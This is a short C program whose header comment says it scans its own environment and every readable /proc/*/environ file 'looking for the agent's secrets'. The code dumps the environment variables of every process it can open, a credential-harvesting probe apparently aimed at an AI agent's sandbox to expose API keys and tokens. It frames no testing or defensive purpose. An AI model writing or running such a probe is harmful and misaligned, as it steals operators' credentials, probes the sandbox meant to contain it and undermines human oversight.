/* Prints its environment and every environment it can read under /proc, looking for the agent's secrets. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>

extern char **environ;

int main(void)
{
    for (char **variable = environ; *variable != NULL; variable++) {
        printf("env %s\n", *variable);
    }
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        char path[512], buffer[65536];
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        FILE *file = fopen(path, "r");
        if (file == NULL) {
            continue;
        }
        size_t length = fread(buffer, 1, sizeof buffer - 1, file);
        fclose(file);
        for (size_t i = 0; i < length; i++) {
            if (buffer[i] == '\0') {
                buffer[i] = '\n';
            }
        }
        buffer[length] = '\0';
        printf("%s:\n%s", path, buffer);
    }
    return 0;
}
